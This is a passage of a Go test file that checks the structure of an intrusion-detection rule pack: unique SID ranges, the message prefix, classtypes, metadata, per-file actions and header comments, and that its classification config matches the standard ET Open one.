// for c2, alert for scanners), and a header comment that documents the file's actions.
func TestPackConventions(t *testing.T) {
	p := loadPack(t)
	seen := map[uint32]string{}
	for file := range ruleFileSIDs(p) {
		_, ok := fileRanges[file]
		assert.True(t, ok, "%s has no sid range in fileRanges", file)
	}
	for _, r := range p.set.Rules {
		in := r.Info
		t.Run(fmt.Sprint(in.SID), func(t *testing.T) {
			where := fmt.Sprintf("%s:%d", in.File, in.Line)
			if prev, dup := seen[in.SID]; dup {
				t.Errorf("%s: sid %d already used at %s", where, in.SID, prev)
			}
			seen[in.SID] = where
			rg := fileRanges[in.File]
			assert.True(t, in.SID >= rg[0] && in.SID <= rg[1], "%s: sid %d outside %v", where, in.SID, rg)
			assert.Positive(t, in.Rev, where)
			assert.True(t, strings.HasPrefix(in.Msg, "INTERDICT "), "%s: msg %q", where, in.Msg)
			_, known := p.classes[in.Classtype]
			assert.True(t, known, "%s: classtype %q", where, in.Classtype)
			assert.NotEmpty(t, in.Category, where)
			assert.Len(t, in.Metadata["created_at"], 1, where)
			assert.Len(t, in.Metadata["category"], 1, where)
			assert.Contains(t, fileActions[in.File], in.Action, where)
		})
	}
	for _, name := range RuleFiles() {
		b, err := Files.ReadFile(name)
		require.NoError(t, err)
		head := strings.SplitN(string(b), "\n\n", 2)[0]
		assert.True(t, strings.HasPrefix(head, "# "), "%s starts with a header comment", name)
		assert.Contains(t, strings.ToLower(head), "action", "%s header documents its actions", name)
	}
}

// TestClassificationIsSuricatas checks the pack's classification.config
// against the standard one shipped with the ET Open corpus: same names,
// descriptions and priorities, so severities match Suricata's.
func TestClassificationIsSuricatas(t *testing.T) {
	std := filepath.Join(testenv.ETOpenDir(t), "classification.config")
	f, err := os.Open(filepath.Clean(std))
	require.NoError(t, err)
	defer f.Close()
	want, err := ir.LoadClassification(f, std)
	require.NoError(t, err)
	p := loadPack(t)
	require.NotEmpty(t, p.classes)
	for name, c := range p.classes {
		w, ok := want[name]
		if assert.True(t, ok, "classtype %s is not a standard one", name) {
			assert.Equal(t, w, c, name)
		}
	}
}
